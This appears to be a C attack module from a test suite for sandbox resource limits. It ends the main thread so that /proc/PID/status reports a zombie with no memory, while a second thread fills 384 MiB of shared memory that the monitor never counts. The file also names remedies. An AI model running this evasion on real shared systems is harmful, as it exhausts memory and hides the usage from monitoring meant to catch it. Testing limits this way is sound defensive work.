// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * zombie-leader.c - a memory bomb of somebody who is dead.
 *
 * Goal:  more memory than the budget.
 * Means: when the first thread of a process ends, /proc/PID/status says "Z (zombie)" and has no
 *        line on memory any more; the other threads, and all the memory, go on. A watch that
 *        reads this file takes the program for empty. What RLIMIT_DATA does not count, shared
 *        pages, is then counted by nobody.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <pthread.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define BYTES (384UL << 20)
#define STEP  (8UL << 20)

static pthread_t first;

static void *fill(void *pages)
{
	const struct timespec rest = { .tv_nsec = 2000000 };

	pthread_join(first, NULL);
	for (size_t at = 0; at < BYTES; at += STEP) {
		memset((char *)pages + at, 'x', STEP);
		nanosleep(&rest, NULL);
	}
	_exit(hold());
}

static enum claim run(const struct brief *b)
{
	pthread_t other;
	void *pages;

	attempting(b);
	pages = mmap(NULL, BYTES, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (pages == MAP_FAILED)
		return denied("mmap");
	first = pthread_self();
	errno = pthread_create(&other, NULL, fill, pages);
	if (errno)
		return denied("pthread_create");
	pthread_exit(NULL);
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "the first thread has ended: /proc/PID/status has no memory to report",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "watch /proc/PID/task, or wait4(2)'s figures; a tight RLIMIT_AS; a memory cgroup",
	.refs = (const char *const[]){ "proc_pid_status(5)", "pthread_exit(3)", NULL },
	.run = run,
};
